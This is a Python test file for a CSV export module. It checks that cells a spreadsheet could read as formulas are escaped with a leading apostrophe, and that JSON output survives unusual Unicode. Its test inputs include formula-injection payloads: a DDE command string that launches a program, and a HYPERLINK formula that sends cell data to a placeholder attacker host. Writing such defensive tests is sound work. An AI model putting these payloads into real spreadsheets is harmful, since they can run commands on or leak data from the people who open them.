"""A table that somebody opens in a spreadsheet runs nothing that a model or a source wrote, and no text stops a file from being written."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as some

from services import exports

FORMULAS = (
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example/"&A1)',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\u202e=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A",
    "−1",
    "\tplain",
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_text_that_a_spreadsheet_could_take_for_a_formula_begins_with_an_apostrophe(formula: str, tmp_path: Path) -> None:
    with exports.Sheet(tmp_path / "orders.csv", exports.ORDERS) as sheet:
        sheet.write([{"ticker": formula, "reason": formula, "weight": -0.5, "status": "rejected"}])
    with (tmp_path / "orders.csv").open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["ticker"] == row["reason"] == f"'{formula}"
    assert row["weight"] == "-0.5" and row["status"] == "rejected"


@given(
    some.one_of(some.integers(), some.floats(allow_nan=False), some.none(), some.sampled_from(["2025-01-02", "AAPL", "a=b", "a - b", ""]))
)
def test_numbers_days_and_plain_words_stay_as_they_are(value: object) -> None:
    assert exports.cell(value) is value


def test_half_a_character_in_what_a_run_says_of_itself_is_written_and_read_again(tmp_path: Path) -> None:
    body = {"notes": ["half a pair: \ud800", "\x00 \u2028 é"]}
    exports._json(tmp_path / "manifest.json", body)
    assert json.loads((tmp_path / "manifest.json").read_text(encoding="utf-8")) == body
